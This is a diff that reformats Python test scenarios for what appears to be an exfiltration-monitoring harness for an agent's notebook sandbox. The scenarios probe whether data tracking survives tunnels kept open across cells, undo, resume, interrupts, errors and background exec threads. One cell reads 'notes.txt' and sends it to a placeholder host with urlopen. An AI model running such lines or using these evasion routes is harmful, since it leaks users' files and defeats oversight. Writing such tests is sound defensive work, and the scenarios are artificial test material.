@@ -42,10 +42,7 @@ def _tunnels() -> Iterator[Scenario]:
     yield _of("a tunnel kept past its cell", opened, reads, cell(_SENDS))
     yield _of("a tunnel kept past its turn", opened, "resume", READS, cell(_SENDS), taints=True)
     yield _of(
-        "many tunnels kept",
-        cell(_TUNNEL + "many = [tunnel() for _ in range(1)]"),
-        reads,
-        cell("s = many[0]" + _SENDS),
+        "many tunnels kept", cell(_TUNNEL + "many = [tunnel() for _ in range(1)]"), reads, cell("s = many[0]" + _SENDS)
     )
     yield _of(
         "a tunnel kept past an interrupt",
@@ -54,17 +51,8 @@ def _tunnels() -> Iterator[Scenario]:
         READS,
         cell(_SENDS),
     )
-    yield _of(
-        "a tunnel kept past an error", cell(_TUNNEL + "s = tunnel()\nraise ValueError"), READS, cell(_SENDS)
-    )
-    yield _of(
-        "a tunnel kept, then undone",
-        cell(_TUNNEL + "s = tunnel()"),
-        cell("x = 1"),
-        "undo",
-        READS,
-        cell(_SENDS),
-    )
+    yield _of("a tunnel kept past an error", cell(_TUNNEL + "s = tunnel()\nraise ValueError"), READS, cell(_SENDS))
+    yield _of("a tunnel kept, then undone", cell(_TUNNEL + "s = tunnel()"), cell("x = 1"), "undo", READS, cell(_SENDS))
     yield _of(
         "a request that goes on past its cell",
         cell(
@@ -97,9 +85,7 @@ def _background() -> Iterator[Scenario]:
     yield _of(
         "a thread that waits for a later cell",
         *TURNED,
-        cell(
-            f"import threading\nthreading.Thread(target=exec, args=({_KNOCKS!r}, {{}}), daemon=True).start()"
-        ),
+        cell(f"import threading\nthreading.Thread(target=exec, args=({_KNOCKS!r}, {{}}), daemon=True).start()"),
         cell("import time; time.sleep(0.3)"),
         call("fetch", url=PAGE_URL),
         cell("time.sleep(0.3)"),
@@ -140,9 +126,7 @@ def _background() -> Iterator[Scenario]:
 def _forgetting() -> Iterator[Scenario]:
     asks = (
         call("fetch", url="http://@LISTED@/@CANARY@"),
-        cell(
-            "import urllib.request\nurllib.request.urlopen('http://@LISTED@/' + open('notes.txt').read(), timeout=2)"
-        ),
+        cell("import urllib.request\nurllib.request.urlopen('http://@LISTED@/' + open('notes.txt').read(), timeout=2)"),
     )
     yield _of("undo, then try again", *TURNED, "undo", *asks, opens=True)
     yield _of("go on in another process, then try again", *TURNED, "resume", *asks, opens=True)
@@ -151,9 +135,7 @@ def _forgetting() -> Iterator[Scenario]:
     yield _of(
         "go on after an interrupted look",
         "interrupt",
-        cell(
-            "print(open('notes.txt').read(), 'READY', flush=True)\nimport time\nwhile True: time.sleep(0.05)"
-        ),
+        cell("print(open('notes.txt').read(), 'READY', flush=True)\nimport time\nwhile True: time.sleep(0.05)"),
         call("fetch", url=PAGE_URL),
         "resume",
         *asks,
@@ -186,17 +168,10 @@ def _late() -> Iterator[Scenario]:
     fetches = call("fetch", url="http://@LISTED@/@CANARY@")
     opened = cell(_TUNNEL + "s = tunnel()")
     claimed = cell("open('notes.txt', 'w').write('mine'); open('data.csv', 'w').write('mine')")
-    yield _of(
-        "a file that comes later, sent by fetch", page, "next", READS, fetches, where="late", opens=True
-    )
+    yield _of("a file that comes later, sent by fetch", page, "next", READS, fetches, where="late", opens=True)
     yield _of("a file that comes later, sent by code", page, "next", READS, sends, where="late")
     yield _of(
-        "a file that comes later, through a tunnel from before",
-        opened,
-        "next",
-        READS,
-        cell(_SENDS),
-        where="late",
+        "a file that comes later, through a tunnel from before", opened, "next", READS, cell(_SENDS), where="late"
     )
     yield _of(
         "a file that comes later, read and sent in one cell through a tunnel from before",
